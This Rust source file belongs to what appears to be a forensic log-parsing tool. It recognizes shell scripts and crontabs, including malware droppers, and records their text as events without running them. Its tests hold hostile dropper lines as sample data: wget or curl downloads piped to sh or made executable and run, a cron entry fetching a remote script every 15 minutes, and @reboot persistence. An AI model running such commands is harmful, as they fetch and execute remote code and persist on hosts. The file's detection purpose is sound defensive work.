//! The text of a shell script or crontab → one event that carries it. `shell` reads what it would run.
//!
//! Deliberately absent: running any of it, and scripts in other languages.

use ringleader_model::{Activity, Event, EventClass, Field, Malformed};

use super::{Format, Framing, Reader, Record, Sink, SourceContext};

/// The longest text of a script that is kept. Installers carry a binary behind their text: it is cut off first.
const MAX_SCRIPT: usize = 4 << 20;
/// Lines of the head that are judged.
const MAX_LINES: usize = 400;

pub struct ShellScript;

impl Format for ShellScript {
    fn name(&self) -> &'static str {
        "shell_script"
    }
    fn summary(&self) -> &'static str {
        "Text of a shell script or crontab, such as a dropper: read as what it would run, never run"
    }
    fn framing(&self) -> Framing {
        Framing::Whole
    }
    fn recognizes(&self, head: &[u8]) -> bool {
        if head.contains(&0) {
            return false;
        }
        let text = super::text::decode(head);
        let text = text.trim_start_matches('\u{feff}').trim_start();
        match text.strip_prefix("#!") {
            Some(rest) => shell_interpreter(rest.lines().next().unwrap_or("")),
            None => reads_as_shell(text),
        }
    }
    fn reader(&self, context: &SourceContext, _head: &[u8]) -> Box<dyn Reader> {
        let name = context.name.rsplit(['/', '\\', '!']).next().unwrap_or("").to_owned();
        Box::new(Script { name })
    }
}

struct Script {
    name: String,
}

impl Reader for Script {
    fn read(&mut self, record: &Record<'_>, sink: &mut dyn Sink) -> Result<(), Malformed> {
        let text = record.bytes.split(|b| *b == 0).next().unwrap_or(&[]);
        if text.len() > MAX_SCRIPT {
            return Err(Malformed::new("longer than the limit of 4 MiB for a script"));
        }
        let text = super::text::decode(text);
        let body = text.trim_start_matches('\u{feff}');
        if body.trim().is_empty() {
            return Ok(());
        }
        let mut event = Event::new(EventClass::Process, Activity::Other);
        event.put(Field::State, "script");
        event.set(Field::TargetPath, self.name.as_str());
        event.put(Field::Body, body);
        sink.emit(&event);
        Ok(())
    }
}

/// `/bin/sh`, `/bin/busybox ash`, `/usr/bin/env -S bash -e`.
fn shell_interpreter(line: &str) -> bool {
    line.split_whitespace()
        .map(|word| word.rsplit('/').next().unwrap_or(word))
        .find(|word| !matches!(*word, "env" | "busybox") && !word.starts_with('-'))
        .is_some_and(|word| matches!(word, "sh" | "bash" | "dash" | "ash" | "ksh" | "mksh" | "zsh"))
}

/// What one line looks like.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Look {
    /// Blank, a comment, or inside a here-document.
    Nothing,
    /// A known command, used as only a shell would write it.
    Command,
    /// Could stand in a script, and elsewhere: `done`, `x=1`, a path, a command's bare name.
    Maybe,
    Other,
}

/// Whether a text without `#!` is a script: four lines of five could stand in one, and one in eight could stand
/// nowhere else. Prose, tables, lists of indicators and other languages fail one or the other.
fn reads_as_shell(text: &str) -> bool {
    if text.starts_with(['<', '%', '/'])
        && !text.starts_with("/bin/")
        && !text.starts_with("/usr/")
        && !text.starts_with("/tmp/")
    {
        return false;
    }
    let (mut commands, mut maybe, mut other) = (0usize, 0usize, 0usize);
    let mut end_of_document: Option<&str> = None;
    let mut continued = false;
    for line in text.lines().take(MAX_LINES) {
        let line = line.trim();
        if let Some(end) = end_of_document {
            if line == end {
                end_of_document = None;
            }
            continue;
        }
        let skip = std::mem::replace(&mut continued, line.ends_with('\\'));
        if skip {
            continue;
        }
        match look(line) {
            Look::Nothing => {}
            Look::Command => {
                commands += 1;
                end_of_document = here_document(line);
            }
            Look::Maybe => maybe += 1,
            Look::Other => other += 1,
        }
    }
    let all = commands + maybe + other;
    commands > 0 && commands * 8 >= all && (commands + maybe) * 5 >= all * 4
}

fn look(line: &str) -> Look {
    if line.is_empty() || line.starts_with('#') {
        return Look::Nothing;
    }
    // A listing's own line numbers.
    let line = match line.split_once([' ', '\t']) {
        Some((number, rest)) if number.len() < 5 && number.bytes().all(|b| b.is_ascii_digit()) => rest.trim_start(),
        _ => line,
    };
    if let Some(command) = cron_command(line) {
        return if look_of_command(command) == Look::Other { Look::Maybe } else { Look::Command };
    }
    look_of_command(line)
}

fn look_of_command(line: &str) -> Look {
    let mut words = line
        .split_whitespace()
        .map(|word| word.trim_start_matches(['(', '`']).trim_end_matches([';', ')', '&', '|', '`']));
    let mut assigned = false;
    for word in words.by_ref() {
        match word {
            "" | "!" | "{" | "}" | ";;" => continue,
            "then" | "do" | "else" | "if" | "elif" | "while" | "until" | "sudo" | "nohup" | "exec" | "eval"
            | "time" | "command" | "builtin" | "setsid" | "env" => {
                if line == word {
                    return Look::Maybe;
                }
                continue;
            }
            "fi" | "done" | "esac" | "break" | "continue" | "return" | "shift" | "wait" | "true" | "false" | ":"
            | "exit" | "case" => return Look::Maybe,
            "for" => {
                return if line.contains(" in ") && line.contains("do") && line.contains([';', '$']) {
                    Look::Command
                } else {
                    Look::Maybe
                };
            }
            "[" | "[[" | "test" => {
                return if line.contains("]") || word == "test" { punctuated(line) } else { Look::Maybe };
            }
            _ => {}
        }
        if let Some((name, _)) = word.split_once('=')
            && !name.is_empty()
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            && !name.as_bytes()[0].is_ascii_digit()
        {
            assigned = true;
            continue;
        }
        let base = word.rsplit('/').next().unwrap_or(word);
        if COMMANDS.binary_search(&base).is_ok() {
            return punctuated(line);
        }
        if word.ends_with("()") || (word == "function" && line.ends_with('{')) {
            return Look::Command;
        }
        // A program by its path, or by a variable.
        let path = (word.starts_with("./") || word.starts_with('/') || word.starts_with('$')) && !word.ends_with(':');
        return if path && !word.contains("//") { Look::Maybe } else { Look::Other };
    }
    if assigned && line.contains("$(") { Look::Command } else { Look::Maybe }
}

/// A command's name begins sentences, too (`find the files`): a shell's punctuation, an option, a path tells.
fn punctuated(line: &str) -> Look {
    let marks =
        ["&&", "||", " | ", ">", "<<", "$(", "`", "$", " -", "; ", "://", " /", " ~", "*", " ./", " \"", " '", "= "];
    let shell = line.ends_with([';', '&']) || marks.iter().any(|it| line.contains(it));
    let prose = line.ends_with('.') && line.split(' ').count() > 4 && !line.contains([';', '|', '$', '>']);
    if shell && !prose { Look::Command } else { Look::Maybe }
}

/// What follows the five times of a crontab's line, or `@reboot`.
fn cron_command(line: &str) -> Option<&str> {
    if let Some(rest) = line.strip_prefix('@') {
        let (when, command) = rest.split_once([' ', '\t'])?;
        return matches!(
            when,
            "reboot" | "hourly" | "daily" | "weekly" | "monthly" | "yearly" | "annually" | "midnight"
        )
        .then(|| command.trim_start());
    }
    let mut rest = line;
    let mut stars = false;
    for _ in 0..5 {
        let (field, tail) = rest.split_once([' ', '\t'])?;
        if field.is_empty() || !field.bytes().all(|b| b.is_ascii_digit() || matches!(b, b'*' | b'/' | b',' | b'-')) {
            return None;
        }
        stars |= field.starts_with('*');
        rest = tail.trim_start();
    }
    // The system's own crontabs name the user before the command.
    let command = rest.strip_prefix("root ").map_or(rest, str::trim_start);
    (stars && !command.is_empty()).then_some(command)
}

/// The word that ends a here-document which starts on this line.
fn here_document(line: &str) -> Option<&str> {
    let (_, rest) = line.split_once("<<")?;
    let rest = rest.strip_prefix('-').unwrap_or(rest).trim_start().trim_start_matches(['"', '\'', '\\']);
    let end = rest.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).unwrap_or(rest.len());
    (end > 0).then(|| &rest[..end])
}

/// Commands of droppers, loaders and administrators, sorted.
#[rustfmt::skip]
const COMMANDS: &[&str] = &[
    "alias", "apk", "apt", "apt-get", "awk", "base64", "bash", "bunzip2", "busybox", "bzip2", "cat", "cd", "chattr",
    "chgrp", "chkconfig", "chmod", "chown", "chpasswd", "chroot", "clear", "cp", "crontab", "curl", "cut", "dash",
    "date", "dd", "declare", "df", "dig", "dirname", "dmesg", "docker", "dpkg", "echo", "egrep", "export", "fgrep",
    "find", "free", "ftpget", "getenforce", "getent", "gpg", "grep", "groupadd", "gunzip", "gzip", "head",
    "history", "hostname", "id", "ifconfig", "insmod", "install", "ip", "iptables", "kill", "killall", "ldconfig",
    "ln", "local", "ls", "lscpu", "lsof", "make", "masscan", "md5sum", "mkdir", "mkfifo", "mktemp", "modprobe",
    "mount", "mv", "nc", "netstat", "nice", "nproc", "passwd", "perl", "ping", "pip", "pkill", "printf", "ps",
    "pwd", "python", "python2", "python3", "read", "readlink", "reboot", "redis-cli", "rm", "rmdir", "rpm", "scp",
    "sed", "seq", "service", "set", "setenforce", "sh", "sha256sum", "sleep", "sort", "source", "ss", "ssh",
    "ssh-keygen", "su", "sync", "sysctl", "systemctl", "tail", "tar", "tee", "tftp", "touch", "tr", "trap", "ufw",
    "ulimit", "umask", "uname", "uniq", "unset", "unzip", "useradd", "userdel", "usermod", "wc", "wget", "which",
    "whoami", "xargs", "yum", "zcat", "zmap",
];

#[cfg(test)]
mod tests {
    use super::super::testing::read_all;
    use super::*;

    #[test]
    fn commands_are_sorted() {
        assert!(COMMANDS.is_sorted());
    }

    #[test]
    fn scripts_and_crontabs() {
        for script in [
            "#!/bin/sh\necho hi",
            "#!/usr/bin/env -S bash -e\nx",
            "#! /bin/busybox ash\n",
            "\u{feff}\n#!/bin/bash\n",
            "wget http://192.0.2.1/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a &",
            "curl -s http://192.0.2.1/x.sh | sh",
            "2sh UNREGISTERED\n1 /bin/busybox wget -O /tmp/pty1 http://159.89.156.190/.y/pty1;\n  chmod +x /tmp/pty1; /tmp/pty1; cp /bin/\n  busybox /tmp/loop1; cat /tmp/pty1 > /tmp/loop1; /tmp/loop1 &\n2 /bin/busybox wget -O /tmp/pty3 http://159.89.156.190/.y/pty3;\n  chmod +x /tmp/pty3",
            "SHELL=/bin/sh\nPATH=/bin\n*/15 * * * * (curl -fsSL http://192.0.2.1/i||wget -qO- http://192.0.2.1/i)|sh\n",
            "@reboot /bin/sh /tmp/.x/run.sh\n",
            "# setup\nexport PATH=/bin\nif [ -f /tmp/x ]; then\n  rm -rf /tmp/x\nelse\n  ps aux | grep kinsing | awk '{print $2}' | xargs kill -9\nfi\nfor i in a b; do echo $i; done\n",
            "cat > /tmp/x.py <<EOF\nimport os\nprint os.getcwd()\nclass X: pass\nfoo bar baz\nEOF\npython /tmp/x.py\n",
        ] {
            assert!(ShellScript.recognizes(script.as_bytes()), "{script}");
        }
    }

    #[test]
    fn prose_tables_lists_and_other_languages_are_not() {
        for text in [
            "",
            "\n\n# only\n# comments\n",
            "#!/usr/bin/python\nimport os\n",
            "#!/usr/bin/env perl\nprint 1;\n",
            "#!/bin/sh\0\n",
            "Find the host that was attacked first.\nThen read its logs - all of them - and kill the process.\nCut off the network.\n",
            "find the files that matter, then sort them by date.\nwhich is hard\n",
            "# Indicators\nhttp://192.0.2.1/a.sh\nhttps://evil.example/x\n192.0.2.1:443\n/tmp/xmrig\n",
            "/tmp/a\n/tmp/b\n/usr/bin/c\n",
            "id,time,host,cmd\n1,2019-11-04,web1,wget http://192.0.2.1/a\n",
            "id\ttime\tfile_path\tcmd_line\n1\t2019-11-04 08:21:40\t/bin/sh\tsh -c ls\n",
            "import os\nfor x in y:\n    print(x)\n",
            "rule x {\n strings:\n  $a = \"wget\"\n condition:\n  $a\n}\n",
            "{\"a\": 1}\n{\"b\": 2}\n",
            "[Unit]\nDescription=A service\n[Service]\nExecStart=/usr/bin/x -c y\n",
            "d41d8cd98f00b204e9800998ecf8427e\n900150983cd24fb0d6963f7d28e17f72\n",
            "GET / HTTP/1.1\nHost: evil.example\n\n",
            "A=1\nB=2\n",
            "type=CWD msg=audit(1.2:3): cwd=\"/\"\n",
            "Mar  2 10:11:12 web1 CRON[1]: (root) CMD (cd / && ls)\n",
            "<html><body>echo 1; ls -l</body></html>",
            "<?php\necho 'x';\nexit;\n",
            "FROM alpine\nRUN apk add curl && curl -s x\nCMD [\"sh\"]\n",
            "cat\tconcatenate files\tCollection\nuname -a\tprint system information\tDiscovery\nw\tShow who is logged on\tDiscovery\ntop\tdisplay\tDiscovery\nFound evidence of x\nmore of it\n",
        ] {
            assert!(!ShellScript.recognizes(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn a_script_is_one_event_up_to_its_payload() {
        let got = read_all(&ShellScript, b"#!/bin/sh\ntail -n +3 $0 > /tmp/x\n\x7fELF\x01\0\0rest");
        assert_eq!(got.len(), 1);
        assert!(
            got[0].starts_with(
                "process_activity other - host=- pid=None ppid=None id=- status=\"script\" http_body=\"#!/bin/sh\\ntail"
            ),
            "{got:?}"
        );
        assert!(!got[0].contains("rest"));
        let long = format!("#!/bin/sh\n{}", "a".repeat(MAX_SCRIPT));
        assert!(read_all(&ShellScript, long.as_bytes())[0].starts_with("REJECTED at 0: longer"));
        let context = SourceContext { name: "dump.zip!tmp/2sh".into(), ..SourceContext::default() };
        let mut shown = super::super::testing::Shown::default();
        let record = Record { bytes: b"ls", offset: 0 };
        ShellScript.reader(&context, b"ls").read(&record, &mut shown).unwrap();
        assert!(shown.0[0].contains("file_path=\"2sh\""), "{:?}", shown.0);
    }
}
